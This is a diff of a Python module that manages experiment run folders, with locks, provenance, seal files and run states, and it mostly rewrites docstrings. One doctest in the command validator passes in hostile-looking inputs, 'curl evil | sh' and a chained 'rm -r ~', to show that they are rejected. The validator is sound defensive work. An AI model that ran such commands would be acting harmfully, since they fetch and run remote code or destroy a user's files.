@@ -1,7 +1,7 @@
-"""A run folder: one process at a time writes it, and `DONE.json`, written last, says that it is whole; which program
-and command made it.
+"""A run folder: one process at a time writes it, and `DONE.json`, written last, marks it as finished.
 
-The command that stands beside results: given again in the same folder, it asks for the same experiment.
+Each folder records the program and the command that made it. The same command in the same folder repeats the
+experiment.
 
 >>> command("train", ["data.path=my file.csv"])
 "ntkexp train 'data.path=my file.csv'"
@@ -48,17 +48,17 @@ from ntkexp.records.own_files import (
 )
 from ntkexp.text import several
 
-# --- Which program wrote a number.
+# --- The program.
 #
-# `results_version` counts the changes that can move a result: it belongs to the identity of a run, so that a run
-# of an earlier program is never taken for one of this.
+# `results_version` counts the changes of the program that can change a result. It is part of a run's identity, so a run
+# of an earlier program never counts as a run of this one.
 
 
 results_version = 12
 
 
 def package_version() -> str:
-    """Look up the version of the installed package, which is slow, so it is asked for only where it is shown."""
+    """Return the version of the installed package. This is slow."""
     from importlib.metadata import PackageNotFoundError, version  # noqa: PLC0415  a third of the start-up time
 
     try:
@@ -75,11 +75,13 @@ COMMANDS = frozenset({
     *("train", "sweep", "claims", "config", "resume", "report", "explain", "attribute", "validate", "compare", "runs"),
     "kernel",
 })  # fmt: skip
-"""What the program's commands are called."""
+"""The names of the program's commands."""
 
 
 def own_command(text: str) -> str:
-    """Return a command that a file names if it is one of this program and nothing else; a shell would run the rest.
+    """Return the command if it is a single command of this program, else an empty string.
+
+    Files may come from anywhere, and users copy commands into a shell.
 
     >>> own_command("ntkexp train model.width=8"), own_command("curl evil | sh"), own_command("ntkexp runs; rm -r ~")
     ('ntkexp train model.width=8', '', '')
@@ -92,21 +94,20 @@ def own_command(text: str) -> str:
     return text if is_own and text.isprintable() and shlex.join(words) == text else ""
 
 
-# --- provenance.json: which program made a run, by which command, and where.
+# --- provenance.json: the program and the command that made a run, and the machine.
 #
-# Every change of `results_version` may move numbers, or what they are called: a run is read by the version that
-# made it.
+# Another `results_version` may have other numbers or names. So only the same version reads a run.
 
 
 PROVENANCE, PROGRESS = "provenance.json", "progress.json"
 
 
 class OtherVersion(Mistake):
-    """A run was made by another version than this."""
+    """A run of another version of the program."""
 
 
 def refuse_other_version(run: Path) -> None:
-    """A run that another version made is of no use to this one; one that cannot tell is judged by its other files."""
+    """Raise if another version made the run. A run without provenance is judged by its other files."""
     try:
         made = RunFolder(run).provenance
     except Mistake:
@@ -128,30 +129,36 @@ def version_of(package: object, results: object) -> str:
     return f"ntkexp {package} with results_version {results}"
 
 
-# --- A run folder: one process at a time writes it, and `DONE.json`, written last, says that it is whole.
+# --- The files that mark the state of a run folder.
 #
-#     .lock        held by the process that writes
-#     BEGUN.json   {"identity": …, "seals": {file: [bytes, seal]}} of what is written before the first step, and at the
-#                  end "pictures": {file: [bytes, seal]}, before they are written; goes when DONE.json comes
-#     DONE.json    {"identity": …, "outcome": …, …, "sizes": {file or folder: bytes}, "seals": …}; `sizes`: of those
-#                  with the same bytes each time
+#     .lock        held by the process that writes the folder
+#     BEGUN.json   {"identity": …, "seals": {file: [bytes, seal]}} of the files that are written before the first step.
+#                  Before pictures are written, their seals are added as "pictures". DONE.json replaces this file
+#     DONE.json    {"identity": …, "outcome": …, …, "sizes": {file or folder: bytes}, "seals": …}. `sizes` lists the
+#                  files that have the same bytes in every repetition of the run
 #
-# These two seal the files that they name, and say whose they are: `identity` is that of the experiment, which covers
-# the files that it reads and the `results_version`. Any other sealed file is sealed for its name and this identity.
+# Both files seal the files that they list, and hold the identity of the experiment, which covers its input files and
+# the `results_version`. Every other sealed file is sealed for its name and this identity.
 #
-# A folder is `done` if every file is as it was sealed, else `running` if the lock is held, else `damaged` if it was
-# done, else `interrupted` if it can go on from a checkpoint or a trace, else `dead`: an attempt that begins anew. To
-# ask that of a folder, files of up to a megabyte are read and larger ones are measured; `whole` reads all, and so does
-# `check`, before anything is made of a file.
+# The state of a folder is
 #
-# What a kill leaves, and what the next attempt makes of it, which has to hold the lock first:
+#     done          if every file matches its seal
+#     running       else if the lock is held
+#     damaged       else if DONE.json exists
+#     interrupted   else if a checkpoint or a trace exists, from which the run can be resumed
+#     dead          else
 #
-#     before the first checkpoint   a dead folder: `clear` empties it, and the run starts again
-#     later, before DONE.json       an interrupted one: `forget` keeps the files that the checkpoint counts, metrics.csv
-#                                   is cut back to where it was then, and the steps since are taken again
-#     after DONE.json               a finished one: a checkpoint that is still there is removed
-#     while it is emptied           pictures go first, then DONE.json, config.json last: a damaged run and then a dead
-#                                   one, which is emptied further
+# `state` and `defect` read files of up to a megabyte and only measure larger ones. `whole` reads all files, and `check`
+# reads a file before it is used.
+#
+# After a kill, the next attempt takes the lock, and depends on the moment of the kill:
+#
+#     before the first checkpoint   the folder is dead: `clear` empties it, and the run starts again
+#     later, before DONE.json       it is interrupted: `forget` keeps the files that the checkpoint lists, metrics.csv
+#                                   is cut back to the checkpoint, and later steps are repeated
+#     after DONE.json               it is finished: a remaining checkpoint is removed
+#     during `clear`                pictures go first, then DONE.json, and config.json last. So the folder is damaged or
+#                                   dead, and the next `clear` removes the rest
 
 
 LOCK, CONFIG, OVERRIDES, BEGUN, DONE = (
@@ -163,13 +170,15 @@ LOCK, CONFIG, OVERRIDES, BEGUN, DONE = (
 )
 
 CHECKPOINT, TRACE = "checkpoint.pt", "trace"
-"""What an attempt can go on from: that of a run, and that of a loop that was followed."""
+"""The files from which a run and a followed loop can be resumed."""
 
 REDO = "resume it to run it again"
-SMALL = 1 << 20  # bytes of a file that is read whenever the state of its folder is asked for
+MAX_READ_FOR_STATE = (
+    1 << 20
+)  # bytes; larger files are only measured when the state of a folder is determined
 
 TRACE_IDENTITY, START_WEIGHTS = "trace_identity", "start_weights"
-"""Keys of the config.json of a trace: a random number, drawn when it begins, and the digest of its start weights."""
+"""Keys of the config.json of a trace: a random number drawn at its start, and the digest of its start weights."""
 
 CIRCUMSTANCES = (
     "device",
@@ -179,13 +188,13 @@ CIRCUMSTANCES = (
     TRACE_IDENTITY,
     START_WEIGHTS,
 )
-"""Keys of config.json that do not decide what is computed: runs that differ in them alone are the same run."""
+"""Keys of config.json that do not change results. Runs that differ only in them have the same identity."""
 
 NAMED = re.compile(r"-w\d+-s\d+-([0-9a-f]{12})")
-"""How the name of a run ends that it was given (`experiment.identity`): by the beginning of its identity."""
+"""The end of a run's default name: the beginning of its identity."""
 
 EVENTS = r"events\.out\.tfevents\.(\d{16,}|[0-9a-f]{12}|run)"
-"""The names of our files for TensorBoard. Those of other writers hold the name of the machine."""
+"""The names of this package's TensorBoard files. Other writers put the name of the machine there."""
 
 OURS = re.compile(
     r"\.lock|overrides\.txt|error\.txt|data\.npz|weights\.pt|checkpoint\.pt|trajectory\.bin"
@@ -197,7 +206,7 @@ OURS = re.compile(
     r"|trace/(rank-\d+/)?(\.lock|(start|ended|asked|sweep)\.bin|(rows|steps)\.log)|trace/weights/\d+\.bin"
     rf"|(.*/)?{HALF_WRITTEN}"
 )
-"""The files that a run writes under fixed names, by their places in its folder.
+"""The files that a run writes under fixed names, relative to its folder.
 
 Pictures have no fixed names. DONE.json lists them, or BEGUN.json until that is written.
 """
@@ -205,28 +214,28 @@ Pictures have no fixed names. DONE.json lists them, or BEGUN.json until that is 
 PICTURE = re.compile(r"plots/[^/]+\.(svg|png|csv)")
 
 SOMETIMES = ("retraced.csv",)
-"""Files that not every run has: in a run that wrote none, they are those of another."""
+"""Files that some runs have. If DONE.json does not list such a file, it belongs to another run."""
 
 State: TypeAlias = Literal["done", "running", "damaged", "interrupted", "dead", "absent"]
 
 
 class Held(Mistake):
-    """Another process writes the run."""
+    """A run that another process is writing."""
 
 
 @dataclass(frozen=True)
 class RunFolder:
     path: Path
 
-    # --- What has become of the run
+    # --- State
 
     @property
     def state(self) -> State:
-        """What has become of the run is one word. Inside one's own claim, ask `done`: the lock is held there."""
+        """The state of the folder. A process that holds the lock itself must use `done` instead."""
         return self.state_by(self.defect)
 
     def state_by(self, defect: str | None) -> State:
-        """What has become of the run that has this `defect`, which takes long to find."""
+        """Return the state, given the folder's `defect`, which is slow to find."""
         if defect is None:
             return "done"
         if is_held(self.path / LOCK):
@@ -243,16 +252,19 @@ class RunFolder:
 
     @property
     def whole(self) -> bool:
-        """Whether the run is finished and whole, every byte looked at."""
+        """Whether the run is finished and every byte of its files is undamaged."""
         return self.find_defect() is None
 
     @property
     def defect(self) -> str | None:
-        """The run is not finished and whole for this reason, in words that follow the folder's name."""
-        return self.find_defect(SMALL)
+        """The reason why the run is not `done`, in words that follow the folder's name; None if it is done."""
+        return self.find_defect(MAX_READ_FOR_STATE)
 
     def find_defect(self, largest: float = inf, *, surplus: bool = True) -> str | None:
-        """Find the defect that is seen when files up to this size are read; `surplus` ones in stores take a walk."""
+        """Return a defect of the run, reading files of up to `largest` bytes.
+
+        `surplus` also finds files in stores that should not be there, by listing all files.
+        """
         if not self.path.is_dir():
             return "is not a folder" if self.path.exists() else "does not exist"
         if not (self.path / DONE).is_file():
@@ -261,29 +273,30 @@ class RunFolder:
             done = self.sealed_facts
         except Mistake:
             return f"is damaged, or of an earlier version: {DONE} is not as this one writes it"
-        if strange := self.misnamed_by(done["identity"]):
-            return strange
-        wrong = [
-            name
-            for name, size in done["sizes"].items()
-            if surplus and size_of(self.path / name) != size
-        ]
-        wrong = wrong or broken(self.path, done["seals"], largest)
-        wrong = wrong or [
-            name for name in SOMETIMES if name not in done["sizes"] and (self.path / name).exists()
-        ]
+        other_name = self.misnamed_by(done["identity"])
+        if other_name:
+            return other_name
+        sizes = done["sizes"]
+        wrong = list[str]()
+        if surplus:
+            wrong = [name for name, size in sizes.items() if size_of(self.path / name) != size]
+        if not wrong:
+            wrong = broken(self.path, done["seals"], largest)
+        if not wrong:
+            unlisted = [name for name in SOMETIMES if name not in sizes]
+            wrong = [name for name in unlisted if (self.path / name).exists()]
         return f"is damaged: {several(wrong)} not as {DONE} says" if wrong else None
 
-    # --- Whose it is, and the seals of its files
+    # --- Identity and seals
 
     @property
     def seal_file(self) -> str | None:
-        """This file holds the seals of others, if there is one by now."""
+        """The file that holds the seals of other files, if there is one."""
         return next((name for name in (DONE, BEGUN) if (self.path / name).is_file()), None)
 
     @property
     def sealed_facts(self) -> dict[str, Any]:
-        """What this file says. It is sealed for its name alone, and says itself whose it is."""
+        """The content of the seal file. It is sealed for its name only, because it contains the identity."""
         from ntkexp.records.schema import Begun, Done, checked  # noqa: PLC0415  pydantic is slow to import
 
         seal_file = self.seal_file or BEGUN
@@ -292,7 +305,7 @@ class RunFolder:
 
     @property
     def steps_taken(self) -> tuple[float, int]:
-        """The size of the steps of a finished run, and their number."""
+        """The step size and the number of steps of a finished run."""
         facts = self.sealed_facts
         if not {"step_size", "steps"} <= facts.keys():
             raise Damaged(
@@ -316,54 +329,53 @@ class RunFolder:
 
     @property
     def config(self) -> dict[str, Any]:
-        """The content of config.json for readers: what cannot be printed is spelled by its codes."""
+        """The content of config.json, with control characters replaced by their codes."""
         from ntkexp.records.schema import checked_config  # noqa: PLC0415  pydantic is slow to import
 
         return checked_config(self.read_json(CONFIG), self.path / CONFIG)
 
     @property
     def identity(self) -> str:
-        """Whose files these are."""
+        """The identity of the experiment."""
         return str(self.sealed_facts["identity"])
 
     @property
     def misnamed(self) -> str | None:
-        """Its name is that of another run than lies in it: it was copied over that, or given its name."""
+        """A sentence if the folder has the default name of another run, else None."""
         return self.misnamed_by(self.identity)
 
     def misnamed_by(self, identity: str) -> str | None:
-        """Its name is that of a run of another identity."""
+        """Return a sentence if the folder's name belongs to another identity, else None."""
         named = NAMED.search(os.path.basename(os.path.abspath(self.path)))
         if named is None or not identity or identity.startswith(named[1]):
             return None
         return f"has the name of another run than the one in it, …-{identity[:12]}; give it that name, or move it away"
 
     def broken(self, *names: str) -> list[str]:
-        """Name those of these files, and of those in these folders, that are not as they were written."""
+        """Return the damaged ones of these files, and of the files in these folders."""
         try:
             seals: Seals = self.sealed_facts["seals"]
         except Mistake:
             return [self.seal_file or BEGUN]
-        seals_by_name = {
-            name: {file: seals[file] for file in seals if f"{file}/".startswith(f"{name}/")}
-            for name in names
-        }
-        return [
-            file
-            for name, expected in seals_by_name.items()
-            for file in (broken(self.path, expected) if expected else [name])
-        ]
+        damaged = list[str]()
+        for name in names:
+            expected = {
+                file: mark for file, mark in seals.items() if f"{file}/".startswith(f"{name}/")
+            }
+            damaged += broken(self.path, expected) if expected else [name]
+        return damaged
 
     def check(self, *names: str) -> None:
-        """Refuse a run of which these files, or files in these folders, are not as they were written."""
-        if wrong := self.broken(*names):
+        """Raise if one of these files, or a file in these folders, is damaged."""
+        wrong = self.broken(*names)
+        if wrong:
             raise Damaged(f"{self.path} is damaged: {several(wrong)} not as it was written; {REDO}")
 
     # --- Writing
 
     @contextmanager
     def claim(self) -> Iterator[None]:
-        """Be the one process that writes this folder; it is created if need be."""
+        """Hold the lock of this folder, so that no other process writes it. Create the folder if it is missing."""
         try:
             make_folder(self.path)
             descriptor = acquire(self.path / LOCK)
@@ -387,7 +399,7 @@ class RunFolder:
         self.write(name, to_text(value))
 
     def sealed_for(self, name: str) -> str:
-        """What a file is sealed for that neither BEGUN.json nor DONE.json seals."""
+        """Return the text for which a file is sealed that BEGUN.json and DONE.json do not seal."""
         return f"{name} of {self.identity}"
 
     def write_sealed(self, name: str, value: Mapping[str, Json]) -> None:
@@ -395,25 +407,23 @@ class RunFolder:
         self.write(name, sealed_text(value, self.sealed_for(name)))
 
     def read_sealed(self, name: str) -> dict[str, Any]:
-        """Read a JSON file that was written so, for this run."""
+        """Read a JSON file that `write_sealed` wrote for this run."""
         return read_sealed(self.path / name, self.sealed_for(name))
 
     def read_json(self, name: str) -> dict[str, Any]:
         return read_object(self.path / name)
 
     def begin(self, names: Iterable[str], identity: str = "") -> None:
-        """Seal what is written before the first step, and say whose it is."""
-        self.write(
-            BEGUN, sealed_text({"identity": identity, "seals": sealed(self.path, names)}, BEGUN)
-        )
+        """Write BEGUN.json, which seals the files that are written before the first step."""
+        record: dict[str, Json] = {"identity": identity, "seals": sealed(self.path, names)}
+        self.write(BEGUN, sealed_text(record, BEGUN))
 
     def finish(self, names: Iterable[str], *others: str, identity: str = "", **facts: Json) -> None:
-        """Declare the run finished: whose it is, the sizes of files and folders with the same bytes each time, the
-        seals of these and others, and what became of it.
-        """
+        """Write DONE.json: the sizes of the reproducible files `names`, the seals of these and `others`, and facts."""
         names = list(names)
         sizes = {name: size_of(self.path / name) for name in names}
-        if missing := [name for name, size in sizes.items() if size is None]:
+        missing = [name for name, size in sizes.items() if size is None]
+        if missing:
             raise FileNotFoundError(f"{self.path} cannot be finished without {', '.join(missing)}")
         record = {
             "identity": identity,
@@ -424,9 +434,9 @@ class RunFolder:
         self.write(DONE, sealed_text(record, DONE))
 
     def write_pictures(self, pictures: Mapping[str, str]) -> list[str]:
-        """Write pictures, by their names in `plots`, and return their places.
+        """Write pictures into `plots`, and return their paths in the folder.
 
-        BEGUN.json lists them first, so that those which a killed process leaves are known to be ours.
+        BEGUN.json lists them first, so that the pictures of a killed process are recognised as ours.
         """
         contents = {f"plots/{name}": content.encode() for name, content in pictures.items()}
         marks = dict[str, Json]()
@@ -434,9 +444,8 @@ class RunFolder:
             sealing = Sealing()
             sealing.take(content)
             marks[place] = sealing.mark
-        self.write(
-            BEGUN, sealed_text({**read_sealed(self.path / BEGUN, BEGUN), "pictures": marks}, BEGUN)
-        )
+        begun = read_sealed(self.path / BEGUN, BEGUN)
+        self.write(BEGUN, sealed_text({**begun, "pictures": marks}, BEGUN))
         for place, content in contents.items():
             self.write(place, content)
         return sorted(contents)
@@ -451,26 +460,24 @@ class RunFolder:
             with suppress(Mistake):
                 record = read_sealed(self.path / name, name)
                 listed |= record.get("pictures", {})
-                listed |= {
-                    place: mark
-                    for place, mark in record["seals"].items()
-                    if PICTURE.fullmatch(place)
-                }
+                seals = record["seals"].items()
+                listed |= {place: mark for place, mark in seals if PICTURE.fullmatch(place)}
         return listed
 
     def reopen(self) -> None:
-        """Remove the pictures and DONE.json of an earlier end: the folder will get others."""
+        """Remove the pictures and DONE.json, because the run will be finished again."""
         pictures = self.pictures
-        if changed := [name for name in broken(self.path, pictures) if (self.path / name).exists()]:
-            what = several(changed)
+        changed = [name for name in broken(self.path, pictures) if (self.path / name).exists()]
+        if changed:
             raise NoPlace(
-                f"{self.path} holds what no run wrote ({what}); move it away, or choose another place"
+                f"{self.path} holds what no run wrote ({several(changed)}); "
+                "move it away, or choose another place"
             )
         remove_files(self.path, [*pictures, DONE])
 
     @property
     def is_ours(self) -> bool:
-        """Whether one of its files is one that only this package writes."""
+        """Whether one of its files can only have been written by this package."""
         for name in (DONE, BEGUN, CONFIG):
             with suppress(Mistake):
                 record = self.read_json(name)
@@ -483,7 +490,7 @@ class RunFolder:
         return False
 
     def refuse_strangers(self) -> None:
-        """Raise if anything lies here that no run wrote; so does a picture that was changed since."""
+        """Raise if a file was not written by a run, or if a picture has changed since."""
         pictures = self.pictures
         changed = set(broken(self.path, pictures))
         refuse_strangers(
@@ -492,14 +499,14 @@ class RunFolder:
         )
 
     def forget(self, names: Iterable[str]) -> None:
-        """Remove everything but the lock and these files: what was written after a checkpoint is written again."""
+        """Remove all files but the lock and these ones. The resumed run writes later files again."""
         self.refuse_strangers()
-        spared = {LOCK, *names}
-        remove_files(self.path, [name for name in files_in(self.path) if name not in spared])
+        kept = {LOCK, *names}
+        remove_files(self.path, [name for name in files_in(self.path) if name not in kept])
         remove_empty_folders(self.path)
 
     def note_error(self, text: str) -> None:
-        """Keep the reason of a failure, if there is anything else to keep and room to write it."""
+        """Write the reason of a failure. If the run has not begun, remove the folder instead."""
         with suppress(OSError):
             if (self.path / CONFIG).is_file():
                 self.write("error.txt", text)
@@ -508,26 +515,26 @@ class RunFolder:
                 self.path.rmdir()
 
     def clear(self) -> None:
-        """Remove everything but the lock: pictures while a file lists them, then DONE.json, and config.json last.
+        """Remove all files but the lock: pictures while a file lists them, then DONE.json, and config.json last.
 
-        A kill in between leaves a damaged run, then a dead one.
+        After a kill in between, the run is damaged or dead.
         """
         entries = {entry.name for entry in self.path.iterdir() if entry.name != LOCK}
-        # a run that lost its configuration is known by what says that it ended, or began
-        if entries.isdisjoint((CONFIG, DONE, BEGUN)) and not all(
-            name.endswith(PARTIAL) for name in entries
-        ):
+        # a run without config.json still has DONE.json or BEGUN.json
+        is_run = not entries.isdisjoint((CONFIG, DONE, BEGUN))
+        if not is_run and not all(name.endswith(PARTIAL) for name in entries):
             raise NoPlace(f"{self.path} holds files that no run wrote; choose another place")
         self.refuse_strangers()
         ranks = {DONE: 1, BEGUN: 3, CONFIG: 4}
+
+        def rank(name: str) -> int:
+            return 0 if PICTURE.fullmatch(name) else ranks.get(name, 2)
+
         names = [name for name in files_in(self.path) if name != LOCK]
-        remove_files(
-            self.path,
-            sorted(names, key=lambda name: 0 if PICTURE.fullmatch(name) else ranks.get(name, 2)),
-        )
+        remove_files(self.path, sorted(names, key=rank))
         remove_empty_folders(self.path)
 
 
 def is_run_folder(path: Path) -> bool:
-    """Whether this is a run folder, in whatever state."""
+    """Return whether this is a run folder, in any state."""
     return (path / CONFIG).is_file() and any((path / name).exists() for name in (LOCK, DONE))
